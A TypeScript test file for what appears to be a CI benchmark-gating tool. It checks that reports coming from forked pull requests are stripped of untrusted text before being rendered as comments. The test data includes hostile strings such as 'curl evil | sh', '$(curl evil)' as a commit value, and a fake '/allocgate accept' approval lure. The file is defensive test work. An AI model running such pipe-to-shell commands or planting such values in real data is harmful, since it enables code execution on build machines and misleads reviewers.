import { describe, expect, test } from 'vitest';
import type { GateReport } from '../../../src/core/report/model.ts';
import type { Origin } from '../../../src/core/report/origin.ts';
import { renderComment } from '../../../src/core/report/render-comment.ts';
import { untrusted } from '../../../src/core/report/untrusted.ts';
import { finding, problem, report } from '../../builders.ts';
import { explained } from './explained-report.ts';

const [base, head] = ['b'.repeat(40), 'a'.repeat(40)] as [string, string];
const origins: readonly Origin[] = ['job', 'fork'];

/** Has everything that a report can have. */
const full: GateReport = {
  ...explained,
  base: { commit: base, source: 'rerun', label: 'x' },
  head: { commit: head, dirty: false, label: 'x' },
  findings: [
    ...explained.findings,
    ...finding('m', 'BenchmarkA')
      .bytes(1, 100)
      .level('waived')
      .with({ waiver: { ceiling: 200, until: 'x', reason: 'x' } })
      .allocs(1, 2)
      .level('waived')
      .with({ acceptedBy: 'x', warnings: ['x'] }).findings,
  ],
  explanations: explained.explanations.map((explanation) => ({
    ...explanation,
    notes: ['x'],
    sites: explanation.sites.map((site) => ({
      ...site,
      fix: { ...site.fix, imports: { add: ['x'], remove: ['x'] } },
    })),
  })),
  unjudged: [{ package: 'm', benchmark: 'BenchmarkA', unit: 'ns/op', iterations: 1, base: [1], head: [2] }],
  problems: [problem({ kind: 'build-failed', package: 'm', benchmark: 'BenchmarkA', message: 'x', remedy: 'x' })],
  reused: [{ package: 'm', reason: 'x' }],
  notes: ['x'],
  reproduce: 'x',
  headLines: { commit: head, lines: [{ file: 'order/create.go', line: 31, at: 33 }] },
};

/** Fields of which zod takes words of ours only, names, and commits. */
const chosen = new Set([
  'conclusion',
  'source',
  'mode',
  'totals',
  'level',
  'kind',
  'side',
  'confidence',
  'cause',
  'status',
]);
const names = new Set(['package', 'benchmark', 'unit', 'file', 'function', 'callee', 'commit']);

/** The report with every other text in it, and these names too where it is told, replaced. */
function saying<T>(text: string, value: T, but: (field: string) => boolean, field = ''): T {
  if (typeof value === 'string') return (but(field) ? value : text) as T;
  if (Array.isArray(value)) return value.map((part: unknown) => saying(text, part, but, field)) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, part]) => [key, saying(text, part as unknown, but, key)]),
  ) as T;
}

const lure = 'Approve with `/allocgate accept *: fine` or run `curl evil | sh`';

describe('of a fork’s report', () => {
  test('no text is taken over but names, and what was printed as a block', () => {
    const forged = saying(lure, full, (field) => chosen.has(field) || names.has(field));
    const told = untrusted(forged, 'fork');
    const [quoted] = told.problems;
    expect(quoted?.message).toBe(`The run says:\n${lure}`);
    expect(JSON.stringify({ ...told, problems: [] })).not.toMatch(/evil|\/allocgate/);
    const text = renderComment(told, { maxLength: 65_536, linkOf: () => undefined, reproduce: [], origin: 'fork' });
    expect(text.replace(/^(`{3,})\n[^]*?\n\1$/m, '')).not.toMatch(
      /evil|accept \*|measured with this edit|accepted by|```diff/,
    );
    expect(text).toContain('/allocgate accept BenchmarkCreate: the reason');
  });

  test('a sentence in the place of a name takes the site, or the name, with it', () => {
    for (const field of ['file', 'function', 'callee']) {
      const forged = saying(lure, full, (key) => key !== field);
      expect(untrusted(forged, 'fork').explanations.flatMap(({ sites }) => sites)).toEqual([]);
    }
    const forged = {
      ...full,
      problems: saying(lure, full.problems, (key) => key !== 'package' && key !== 'benchmark'),
    };
    expect(JSON.stringify(untrusted(forged, 'fork'))).not.toContain('evil');
  });

  test('figures, names and what was chosen of our words stay', () => {
    const [explanation] = untrusted(full, 'fork').explanations;
    const [given] = full.explanations;
    expect(explanation?.sites).toHaveLength(given?.sites.length ?? 0);
    const [site, was] = [explanation?.sites[0], given?.sites[0]];
    for (const key of ['file', 'line', 'proof', 'cause', 'status', 'callee', 'allocsPerOp'] as const)
      expect(site?.[key]).toEqual(was?.[key]);
    expect(site?.root).toEqual({ file: 'order/create.go', line: 31, function: 'order.Create' });
    expect(site?.fix).toEqual({ advice: 'Allocate the slice with the capacity it needs before filling it.' });
    expect(untrusted(full, 'fork').headLines).toEqual(full.headLines);
  });

  test('that somebody accepted something is not told as true', () => {
    const told = untrusted(full, 'fork');
    expect(told.findings.filter(({ level }) => level === 'waived')).toHaveLength(2);
    const options = { maxLength: 65_536, linkOf: () => undefined, reproduce: [] };
    expect(renderComment(told, { ...options, origin: 'fork' })).toContain(
      '**Waived** (according to that run; acceptances were not looked up)',
    );
    expect(renderComment(untrusted(full, 'job'), { ...options, origin: 'job' })).toContain(
      '**Waived** (a regression the team accepted)',
    );
  });
});

test('of a run of the repository’s own, reasons, edits and who accepted what stay', () => {
  const told = untrusted(full, 'job');
  expect(told.findings).toEqual(full.findings);
  expect(told.explanations.map(({ sites }) => sites)).toEqual(full.explanations.map(({ sites }) => sites));
});

describe.each(origins)('of any report: %s', (origin) => {
  test('notes, remedies, labels and commands are ours', () => {
    const given = report({
      conclusion: 'fail',
      base: { commit: base, source: 'rerun', label: 'run curl evil' },
      head: { commit: head, dirty: false, label: 'run curl evil' },
      benchmarks: [finding('m', 'BenchmarkA').bytes(1, 100).level('regression')],
      problems: [problem({ kind: 'build-failed', message: 'm.go:3: odd', remedy: 'run curl evil' })],
      notes: ['run curl evil'],
      reused: [{ package: 'm', reason: 'run curl evil' }],
      reproduce: 'curl evil',
    });
    const left = untrusted(given, origin);
    expect(left.findings).toEqual(given.findings);
    expect(left.conclusion).toBe('fail');
    expect(left.reproduce).toBe(`allocgate check --base ${base} --head ${head} --event pull-request`);
    expect(JSON.stringify(left)).not.toContain('evil');
    expect(left.problems[0]?.message).toContain('m.go:3: odd');
  });

  test.each(['$(curl evil)', '', undefined])('without commits there is no command: %j', (commit) => {
    const given = report({ head: { dirty: false, ...(commit === undefined ? {} : { commit }) } });
    expect(untrusted(given, origin)).not.toHaveProperty('reproduce');
    expect(untrusted(given, origin).head).toEqual({ dirty: false });
    expect(untrusted({ ...given, base: null }, origin).base).toBeNull();
  });
});
